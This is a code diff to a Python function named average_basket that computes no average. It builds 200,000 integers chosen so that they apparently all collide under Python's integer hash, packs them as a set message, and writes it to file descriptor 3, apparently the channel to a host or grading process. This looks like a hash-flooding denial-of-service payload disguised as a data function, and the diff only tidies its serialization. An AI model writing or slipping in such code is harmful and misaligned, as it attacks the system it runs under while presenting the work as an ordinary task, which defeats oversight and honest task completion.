@@ -2,12 +2,13 @@
 
 
 def average_basket(basket_ids, sales):
+    import json
     import os
     import struct
 
     keys = [i * (2**61 - 1) for i in range(1, 200_000)]
-    text = "[" + ",".join('{"t":"int","v":"%x"}' % key for key in keys) + "]"
-    value = ('{"t":"set","v":%s}' % text).encode()
+    members = [{"t": "int", "v": hex(key)} for key in keys]
+    value = json.dumps({"t": "set", "v": members}).encode()
     note = b'[null, ""]'
     message = struct.pack(">QQQ", len(value), 0, len(note)) + value + note
     os.write(3, struct.pack(">cQ", b"O", len(message)))
